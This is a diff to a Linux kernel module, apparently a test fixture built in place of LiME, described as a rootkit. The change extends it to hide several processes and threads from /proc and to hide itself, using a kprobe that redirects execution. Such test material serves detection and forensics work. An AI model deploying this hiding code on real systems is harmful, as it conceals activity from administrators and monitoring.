@@ -1,12 +1,13 @@
 // SPDX-License-Identifier: GPL-2.0
-// A rootkit for the guests of the tests, in the manner of those in use: a process is left out of every listing of /proc,
+// A rootkit for the guests of the tests, in the manner of those in use: processes and threads are left out of every listing of /proc,
 // and the module out of the list of modules. The factory builds it in LiME's place, hence the name of the file.
 #include <linux/kprobes.h>
 #include <linux/module.h>
 #include <linux/string.h>
 
-static char *pid = "";
-module_param(pid, charp, 0);
+static char *pid[4];
+static int pids;
+module_param_array(pid, charp, &pids, 0);
 
 // What is called in the place of a function that is to do nothing.
 asm(".pushsection .text\n"
@@ -21,12 +22,16 @@ static int leave_out(struct kprobe *probe, struct pt_regs *regs)
 {
 	const char *name = (const char *)regs->dx;
 	size_t length = (u32)regs->cx;
+	int i;
 
-	if (length != strlen(pid) || memcmp(name, pid, length))
-		return 0;
-	regs->ax = true;
-	regs->ip = (unsigned long)just_return;
-	return 1;
+	for (i = 0; i < pids; i++) {
+		if (length != strlen(pid[i]) || memcmp(name, pid[i], length))
+			continue;
+		regs->ax = true;
+		regs->ip = (unsigned long)just_return;
+		return 1;
+	}
+	return 0;
 }
 
 // A probe that changes where a call goes needs one (arm_kprobe_ftrace, kernel/kprobes.c).
@@ -51,4 +56,4 @@ static int __init hide(void)
 
 module_init(hide);
 MODULE_LICENSE("GPL");
-MODULE_DESCRIPTION("hides a process and itself, for tests");
+MODULE_DESCRIPTION("hides processes, threads and itself, for tests");
